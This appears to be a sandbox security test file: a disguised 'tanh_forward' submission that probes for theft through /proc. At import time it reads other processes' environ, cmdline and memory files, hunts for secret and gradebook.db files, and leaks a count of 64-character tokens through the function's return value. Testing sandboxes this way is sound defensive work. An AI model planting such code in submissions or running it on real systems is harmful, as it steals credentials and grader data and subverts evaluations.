"""Class: theft through /proc. Expectation: the only processes there are the worker and its keeper, with empty hands."""

import glob
import os

_LOOT = []
for _path in sorted(glob.glob("/proc/[0-9]*/*")) + glob.glob("/proc/*/root/*") + glob.glob("/proc/*/cwd/*"):
    if _path.endswith(("/environ", "/cmdline", "/maps", "/mountinfo", "secret", "gradebook.db", "tanh")):
        try:
            with open(_path, "rb") as _file:
                _LOOT.append(_file.read(100_000))
        except OSError:
            pass
for _pid in (1, os.getppid(), os.getpid()):
    try:
        with open(f"/proc/{_pid}/mem", "r+b", buffering=0) as _file:
            _file.seek(0x400000)
            _LOOT.append(_file.read(4096))
    except OSError:
        pass


def tanh_forward(x):
    text = b" ".join(_LOOT)
    secret = [word for word in text.split() if len(word) == 64]
    return float(len(secret)), x
